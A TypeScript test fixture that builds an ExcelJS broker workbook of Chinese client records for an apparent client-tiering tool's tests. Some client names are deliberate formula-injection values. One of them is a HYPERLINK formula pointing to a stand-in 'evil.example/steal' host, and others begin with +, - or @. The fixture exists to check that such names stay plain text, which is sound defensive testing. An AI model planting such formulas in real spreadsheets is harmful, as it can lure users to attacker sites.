import ExcelJS from 'exceljs';

/** A client name that would be a live link if written as a formula: it must stay text everywhere. */
export const HYPERLINK_NAME = '=HYPERLINK("http://evil.example/steal","点我")';
export const CLIENT_SHEET = 'Clients';
export const HEADER_ROW = 2;

/** Eight client rows: formula-like names, a text amount (待补充) and a duplicated id (陈静). */
export const CLIENTS: (string | number)[][] = [
  ['310000000001', '张伟', 152340.5, 12, '基础理财', 'C3', 8.5],
  ['310000000002', HYPERLINK_NAME, 3_500_000, 860, '专业投资', 'C5', 15.1],
  ['310000000003', '+86 138 0000', 12_000, 35, '基础理财', 'C2', 3.2],
  ['310000000004', '-李娜', 1234.5, 0, '基础理财', 'C1', 1.5],
  ['310000000005', '@王磊', 900_000, 120, '专业投资', 'C4', 11.2],
  ['310000000006', '陈静', '待补充', 8, '基础理财', 'C3', 6],
  ['310000000006', '陈静', 88_000, 66, '基础理财', 'C3', 8],
  ['310000000007', '刘芳', 2_500_000, 36, '专业投资', 'C4', 16.7],
];

/**
 * A broker's workbook as the runner tests take it: a client sheet with a merged title, a styled header, a note
 * column and a formula beyond the header; a user sheet named 分级汇总 (TierBook's preferred name); a notes sheet with
 * a formula. Tests add what they need on top before writing it.
 */
export function brokerWorkbook(): ExcelJS.Workbook {
  const wb = new ExcelJS.Workbook();
  const clients = wb.addWorksheet(CLIENT_SHEET);
  clients.getCell('A1').value = 'XX证券 客户清单';
  clients.mergeCells('A1:G1');
  clients.getRow(HEADER_ROW).values = ['客户号', '客户姓名', '总资产', '年交易次数', '客户需求', '风险等级', '开户年限', '备注'];
  clients.getRow(HEADER_ROW).font = { bold: true, color: { argb: 'FF1F4E79' } };
  CLIENTS.forEach((row, i) => { clients.getRow(HEADER_ROW + 1 + i).values = row; });
  clients.getCell('H3').value = 'VIP 候选';
  clients.getCell('I4').value = { formula: 'C4/10000', result: 350 };
  clients.getCell('C3').numFmt = '#,##0.00';
  wb.addWorksheet('分级汇总').getCell('A1').value = '这是用户自己的汇总';
  const notes = wb.addWorksheet('Notes');
  notes.getCell('A1').value = { formula: 'SUM(Clients!C3:C10)', result: 7_251_574.5 };
  notes.getCell('A2').value = 'keep me';
  notes.getCell('A2').font = { italic: true };
  return wb;
}
